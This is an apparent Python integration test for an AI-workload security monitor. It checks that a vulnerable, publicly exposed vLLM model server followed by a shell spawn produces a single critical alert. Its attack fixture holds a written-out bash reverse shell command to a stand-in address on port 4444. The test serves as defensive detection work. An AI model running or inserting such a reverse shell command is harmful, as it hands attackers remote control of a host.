"""The three-part attack path on the real services: a Trivy report of a model server image with a
vulnerable vllm, a LoadBalancer Service exposing it, the runtime showing vllm in use, then a reverse
shell from the server → one alert about the pod, critical, joining the engineer's exposure, whose summary
says all three; and the rows of the
``vulnerabilities`` table name the package in use on an exposed workload, critical priority.

The Trivy report goes through the real parser (``trivy`` source, raw topic ``aiwarden.raw.vulns``), split
per package as ``aiwarden publish`` sends it."""

from __future__ import annotations

import time
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from infra.settings import Settings
from schemas.sources import SOURCES
from streams.publish import Publisher
from streams.worker_process import WorkerProcess, start_groups_at_end
from tests.integration.test_pipeline_e2e import wait_for

pytestmark = pytest.mark.integration

CVE = "CVE-2024-11041"


def iso(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, tz=UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def trivy_report(image: str, t: int) -> dict[str, Any]:
    """``trivy image --format json`` of a vLLM server image (SchemaVersion 2, Trivy's own field names)."""
    site = "usr/local/lib/python3.12/dist-packages"
    return {
        "SchemaVersion": 2,
        "Trivy": {"Version": "0.58.1"},
        "ReportID": str(uuid.uuid4()),
        "CreatedAt": iso(t),
        "ArtifactName": image,
        "ArtifactType": "container_image",
        "Metadata": {
            "OS": {"Family": "ubuntu", "Name": "22.04"},
            "ImageID": "sha256:" + "1f" * 32,
            "RepoTags": [image],
            "RepoDigests": [f"{image.rsplit(':', 1)[0]}@sha256:" + "9c" * 32],
        },
        "Results": [{
            "Target": "Python",
            "Class": "lang-pkgs",
            "Type": "python-pkg",
            "Packages": [
                {"Name": "vllm", "Identifier": {"PURL": "pkg:pypi/vllm@0.6.3"}, "Version": "0.6.3",
                 "FilePath": f"{site}/vllm-0.6.3.dist-info/METADATA"},
                {"Name": "torch", "Identifier": {"PURL": "pkg:pypi/torch@2.4.0"}, "Version": "2.4.0",
                 "FilePath": f"{site}/torch-2.4.0.dist-info/METADATA"},
            ],
            "Vulnerabilities": [{
                "VulnerabilityID": CVE,
                "PkgName": "vllm",
                "PkgIdentifier": {"PURL": "pkg:pypi/vllm@0.6.3"},
                "PkgPath": f"{site}/vllm-0.6.3.dist-info/METADATA",
                "InstalledVersion": "0.6.3",
                "FixedVersion": "0.6.5",
                "Status": "fixed",
                "SeveritySource": "ghsa",
                "PrimaryURL": f"https://avd.aquasec.com/nvd/{CVE.lower()}",
                "Title": "vllm: remote code execution via pickle deserialization in MessageQueue",
                "Severity": "CRITICAL",
                "CVSS": {"ghsa": {"V3Vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "V3Score": 9.8}},
            }],
        }],
    }


def service_created(namespace: str, name: str, t: int) -> dict[str, Any]:
    """The kube-apiserver audit event of a LoadBalancer Service on the model port."""
    return {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": str(uuid.uuid4()),
        "stage": "ResponseComplete", "requestURI": f"/api/v1/namespaces/{namespace}/services", "verb": "create",
        "user": {"username": "dev-ci@example.org", "groups": ["system:authenticated"]},
        "sourceIPs": ["10.8.1.2"], "userAgent": "kubectl/v1.31.0",
        "objectRef": {"resource": "services", "namespace": namespace, "name": name, "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 201},
        "requestObject": {"kind": "Service", "apiVersion": "v1", "metadata": {"name": name, "namespace": namespace},
                          "spec": {"type": "LoadBalancer", "selector": {"app": "vllm"},
                                   "ports": [{"port": 8000, "targetPort": 8000, "protocol": "TCP"}]}},
        "requestReceivedTimestamp": iso(t), "stageTimestamp": iso(t + 40),
    }


def process(namespace: str, pod: str, container: str, image: str, t: int, name: str, cmdline: str,
            parent: str, exe: str) -> dict[str, Any]:
    """A native-agent process start in the model server's container."""
    return {
        "schema": "aiwarden.runtime/v1", "id": uuid.uuid4().hex, "time": t, "kind": "process_exec",
        "host": "gpu-node-7", "cluster": "prod", "namespace": namespace, "pod": pod, "container_id": container,
        "image": image, "process": {"name": name, "cmdline": cmdline, "parent_name": parent, "exe": exe,
                                    "user": "root", "pid": 4242 + t % 1000},
    }


def test_exposed_vulnerable_in_use_model_server_with_a_reverse_shell_is_one_critical_alert(
    service_settings: Settings, ch, tmp_path: Path  # type: ignore[no-untyped-def]
) -> None:
    app_id = f"vulns-{uuid.uuid4().hex[:6]}"
    start_groups_at_end(service_settings, app_id)
    run = uuid.uuid4().hex[:6]
    namespace, pod, container = f"ml-{run}", f"vllm-{run}-0", uuid.uuid4().hex
    image = f"vllm/vllm-openai:v0.6.3-{run}"
    t0 = int(time.time() * 1000) - 3_600_000
    server = "python3 -m vllm.entrypoints.openai.api_server --model /models/llama --port 8000"
    shell = "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"
    way_in = [
        ("trivy", trivy_report(image, t0)),
        ("k8s_audit", service_created(namespace, "vllm-public", t0 + 60_000)),
        ("native", process(namespace, pod, container, f"docker.io/{image}", t0 + 120_000, "python3", server,
                           "containerd-shim", "/usr/bin/python3.12")),
    ]
    attack = [("native", process(namespace, pod, container, f"docker.io/{image}", t0 + 180_000, "bash", shell,
                                 "python3", "/usr/bin/bash"))]
    publisher = Publisher(service_settings)

    def publish(records: list[tuple[str, Any]]) -> None:
        for source, document in records:
            spec = SOURCES[source]
            for record in spec.split(document):  # a report is one record per package, as `aiwarden publish` does
                publisher.publish_record(source, record, spec.primary_key(record))
        assert publisher.flush().failed == 0

    # the namespace is approved: the model server itself is sanctioned, its way in is what is wrong
    worker = WorkerProcess(service_settings, tmp_path / "worker.log", AIWARDEN_WORKER__APP_ID=app_id,
                           AIWARDEN_DETECTION__APPROVED_NAMESPACES=f'["{namespace}"]',
                           AIWARDEN_DETECTION__APPROVED_IMAGES="[]").start()
    pod_entity = f"pod:{namespace}/{pod}"
    try:
        query = ("SELECT alert_id, severity, detectors, summary, version, primary_entity FROM aiwarden.alerts FINAL "
                 "WHERE has(entities, {e:String}) ORDER BY alert_id")
        path = {"exposed_ai_workload", "vulnerable_ai_workload", "model_server_shell"}

        def has(detectors: set[str]) -> list[tuple[Any, ...]]:
            rows = [tuple(r) for r in ch.query(query, parameters={"e": pod_entity}).result_rows]
            return rows if rows and all(detectors <= set(r[2]) for r in rows) else []

        # as it happens live: the way in (scan, exposure, server start) is an alert before the shell comes
        publish(way_in)
        assert wait_for(lambda: has({"exposed_ai_workload", "vulnerable_ai_workload"}), 180, worker), (
            ch.query(query, parameters={"e": pod_entity}).result_rows, worker.log_tail())
        publish(attack)

        # the engineer's exposure, the vulnerable package in use and the shell: one alert, about the pod (its
        # findings re-keyed by the correlate stage to the exposure's alert)
        alerts = wait_for(lambda: has(path), 180, worker)
        assert alerts, (ch.query(query, parameters={"e": pod_entity}).result_rows, worker.log_tail())
        assert len(alerts) == 1, alerts
        _, severity, detectors, summary, _, primary_entity = alerts[0]
        assert primary_entity == pod_entity
        assert severity == "critical"
        assert "publicly exposed" in summary and "vllm 0.6.3 in use" in summary and CVE in summary, summary
        assert "reverse shell" in summary, summary

        # the re-keyed copies on aiwarden.findings are not rows: each finding once
        def findings() -> tuple[int, int] | None:
            counts = ch.query("SELECT count(), uniqExact(finding_id) FROM aiwarden.findings WHERE has(entities, "
                              "{e:String})", parameters={"e": pod_entity}).result_rows[0]
            return (int(counts[0]), int(counts[1])) if counts[1] >= 2 else None

        counted = wait_for(findings, 60, worker)
        assert counted and counted[0] == counted[1], counted

        # the rows: detect stage → aiwarden.vulnerabilities → sink → the vulnerabilities table
        query = ("SELECT package, vulnerability_id, in_use, exposed, ai_asset, priority, priority_score, "
                 "in_use_first_seen, fixed_version, reasons, image, ai_package FROM aiwarden.vulnerabilities FINAL "
                 "WHERE workload = {w:String}")

        def rows() -> dict[tuple[str, str], tuple[Any, ...]]:
            found = {(r[0], r[1]): tuple(r) for r in ch.query(query, parameters={"w": pod_entity}).result_rows}
            return found if found.get(("vllm", CVE), ())[2:7] == (1, 1, 1, "critical", 100) else {}

        latest = wait_for(rows, 120, worker)
        assert latest, f"no critical vllm row for {pod_entity}:\n{worker.log_tail()}"
        _, _, _, _, _, _, _, first_seen, fixed, reasons, row_image, _ = latest[("vllm", CVE)]
        assert first_seen == t0 + 120_000 and fixed == "0.6.5" and row_image == image
        assert "vllm in use" in reasons and any(r.startswith("publicly exposed (LoadBalancer") for r in reasons)
        torch = latest[("torch", "")]
        assert (torch[2], torch[5], torch[11]) == (0, "none", 1), torch
    finally:
        worker.stop()
